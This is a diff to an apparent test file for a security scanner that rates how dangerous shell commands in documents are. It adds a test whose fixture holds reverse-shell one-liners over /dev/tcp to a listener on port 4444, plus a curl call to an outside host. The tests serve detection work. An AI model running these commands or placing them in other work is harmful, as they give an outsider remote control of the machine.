@@ -70,6 +70,11 @@ it('a shell is critical for a host of unknown owners or for anyone, and high whe
   expect(worst(fencing('sh', 'bash -i >& /dev/tcp/$LHOST/4444 0>&1'), 'RC-05')).toBe('high');
 });
 
+it('a shell that a document connects to a house address is high, whatever hosts its other commands name', () => {
+  const commands = 'bash -i >& /dev/tcp/10.10.14.5/4444 0>&1\n\necho\n\ncurl https://mossgrange.net/a';
+  expect(worst(fencing('sh', commands), 'RC-05')).toBe('high');
+});
+
 describe('a skill that names the receiver as its product', () => {
   const named = (name: string, host: string): SkillFolder =>
     folderOf({
